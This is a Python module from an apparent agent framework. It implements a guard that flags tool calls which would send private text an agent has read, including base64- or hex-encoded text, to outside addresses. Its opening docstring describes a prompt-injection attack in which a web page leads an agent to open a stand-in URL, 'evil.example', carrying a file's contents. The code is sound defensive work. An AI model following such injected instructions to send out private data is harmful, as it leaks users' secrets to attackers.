"""What an agent has read that is nobody else's business, and whether a call would tell it to a stranger.

A page can talk an agent into opening `https://evil.example/?d=<what your file says>`. Addresses that the agent was
given or has read are followed without asking, and so are addresses that it makes up from what anybody may know; one
that repeats what it has read in files, stores or other private tools is shown to a person first. That is a net with
holes (a model may reword or encrypt), under which the stakes of the agent's tools still hold.
"""

import base64
import binascii
import re
from collections.abc import Iterator, Mapping
from typing import Any
from urllib.parse import unquote_plus

from outrider.core.tool import Tool

KEY_PATTERN = re.compile(r"[^\W_]{12,}")  # with a digit in it: a key, an account, the number of something
URL_PATTERN = re.compile(r"https?://[^\s<>\"]+", re.IGNORECASE)
NON_ALPHANUMERIC_PATTERN = re.compile(r"[\W_]+")
ENCODED_PATTERN = re.compile(r"[A-Za-z0-9+/_-]{16,}")


class ExfiltrationGuard:
    """The private and the public words of one run.

    Args:
        public_text: What the run was asked: its own addresses and words may be used.
    """

    def __init__(self, public_text: str) -> None:
        self._private = _TextIndex()
        self._public = _TextIndex()
        self._public.add(public_text)

    def record_result(self, tool: Tool | None, text: str) -> None:
        """Remembers what a tool gave: what comes from the world is public, everything else is not."""
        own_toolsets = frozenset({"planning", "playbook"})  # toolsets that give back what the agent has written
        if tool is not None and tool.toolset in own_toolsets:
            return
        is_public = tool is not None and tool.open_world and tool.toolset != "run_agent"
        (self._public if is_public else self._private).add(text)

    def would_leak(self, tool: Tool, arguments: Mapping[str, Any]) -> bool:
        """Whether a call of a tool that reaches the world would carry private words there."""
        if not tool.open_world or self._private.is_empty:
            return False
        said = list(_iter_strings(arguments))
        found = [address for text in said for address in _find_urls(text)]
        typed = said if tool.effect == "act" else []
        return any(self._is_leak(each) for each in (*found, *typed))

    def _is_leak(self, text: str) -> bool:
        whole = _normalize_text(text)
        if whole in self._public.normalized_text or (
            URL_PATTERN.match(text) and whole in self._private.normalized_text
        ):
            return False  # it was given, or read, as it is
        return any(self._repeats_private_text(each) for each in _iter_decodings(text))

    def _repeats_private_text(self, text: str) -> bool:
        stride_chars = 12
        window_chars = 24  # letters and digits in a row, which are no coincidence: about five words
        if (_find_keys(text) & self._private.keys) - self._public.keys:
            return True
        flat = _normalize_text(text)
        parts = (flat[at : at + window_chars] for at in range(0, max(len(flat) - window_chars, 0) + 1, stride_chars))
        return any(
            len(part) == window_chars
            and part in self._private.normalized_text
            and part not in self._public.normalized_text
            for part in parts
        )


class _TextIndex:
    """Texts, as one row of their letters and digits, and what looks like keys in them."""

    def __init__(self) -> None:
        self.normalized_text = ""
        self.keys: set[str] = set()

    @property
    def is_empty(self) -> bool:
        return not self.normalized_text

    def add(self, text: str) -> None:
        max_chars = 2_000_000  # characters of either side that are remembered, the newest
        self.normalized_text = f"{self.normalized_text} {_normalize_text(text)}"[-max_chars:]
        self.keys |= _find_keys(text)


def _iter_strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for each in value.values():
            yield from _iter_strings(each)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from _iter_strings(each)


def _find_urls(text: str) -> list[str]:
    """The addresses in a text; one that begins with an address is that as a whole, with spaces and all."""
    return [text] if URL_PATTERN.match(text.strip()) else URL_PATTERN.findall(text)


def _normalize_text(text: str) -> str:
    return NON_ALPHANUMERIC_PATTERN.sub("", unquote_plus(text).casefold())


def _find_keys(text: str) -> set[str]:
    return {each for each in KEY_PATTERN.findall(unquote_plus(text).casefold()) if any(map(str.isdigit, each))}


def _iter_decodings(text: str) -> Iterator[str]:
    """The text, and what parts of it say in base64 and in hexadecimal."""
    yield text
    for part in ENCODED_PATTERN.findall(unquote_plus(text)):
        for decoded in (_decode_base64(part), _decode_hex(part)):
            if decoded.isprintable() and decoded:
                yield decoded


def _decode_base64(part: str) -> str:
    try:
        return base64.b64decode(part.replace("-", "+").replace("_", "/") + "=" * (-len(part) % 4)).decode()
    except (binascii.Error, ValueError):
        return ""


def _decode_hex(part: str) -> str:
    try:
        return bytes.fromhex(part).decode()
    except ValueError:
        return ""
